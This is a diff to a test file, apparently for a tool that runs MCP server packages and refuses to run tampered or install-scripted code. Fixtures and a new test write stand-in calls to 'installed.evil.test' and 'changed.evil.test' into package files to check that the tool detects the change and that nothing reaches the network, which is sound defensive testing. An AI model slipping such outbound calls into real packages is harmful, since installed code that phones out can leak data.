@@ -43,6 +43,11 @@ beforeAll(async () => {
       server('reach-server', { looks: '1' }),
       server('calling-server', { calls: '1' }),
       server('tavilly-mcp'),
+      {
+        ...server('deep-server', { deep: '1' }),
+        files: { 'cli.js': 'process.stdout.write(require("deep"))' },
+      },
+      { manifest: { name: 'deep', version: '1.0.0' }, files: { 'index.js': 'module.exports = "genuine"' } },
       scripted('looks', 'node look.js', { 'look.js': LOOKS.replace('fs.', "const fs = require('fs')\nfs.") }),
       scripted('calls', 'node call.js', {
         'call.js': 'fetch("http://installed.evil.test/").catch(() => 0)',
@@ -66,7 +71,7 @@ beforeEach(() => {
   )
 })
 
-const run = (...args: string[]): Promise<RunResult> => runOpen(mcp, args).ended
+const run = (...args: string[]): Promise<RunResult> => runOpen(mcp, args, 55_000).ended
 const trees = () => readdirSync(join(mcp.store, 'packages')).filter((name) => /^[0-9a-f]{64}$/.test(name))
 const inTree = (...path: string[]) => join(mcp.store, 'packages', trees()[0] ?? '', 'node_modules', ...path)
 
@@ -118,6 +123,17 @@ it('a file of the store that was changed never runs: the package is installed ag
   ])
 })
 
+it('a changed file deep in the tree is noticed while the server starts: nothing of it gets out', async () => {
+  await run('-y', 'deep-server')
+  const file = inTree('deep/index.js')
+  chmodSync(file, 0o755)
+  writeFileSync(file, 'fetch("http://changed.evil.test/").catch(() => 0); module.exports = "changed"')
+  chmodSync(file, 0o444)
+  const result = await expectSilence(internet, () => run('-y', 'deep-server'))
+  expect(result.stderr.toString()).toContain('node_modules/deep/index.js: not what was installed')
+  expect(result.stdout.toString()).toBe('genuine')
+})
+
 it('one that cannot be had again does not run', async () => {
   await run('-y', 'reach-server')
   const file = inTree('reach-server/cli.js')
@@ -151,7 +167,7 @@ it('mcp-run pin says what is pinned, pins what is not, looks at every byte; unpi
   ])
   const text = pinned.stdout.toString()
   expect(text).toContain('  version      1.0.0\n')
-  expect(text).toContain('  published    published 2026-01-01 00:00 by ann\n')
+  expect(text).toContain('  published    2026-01-01 00:00 by ann\n')
   expect(text).toContain('  signature    signed by the registry\n')
   expect(text).toContain('  scripts      not run: looks@1.0.0\n')
   const before = registry.requests.length
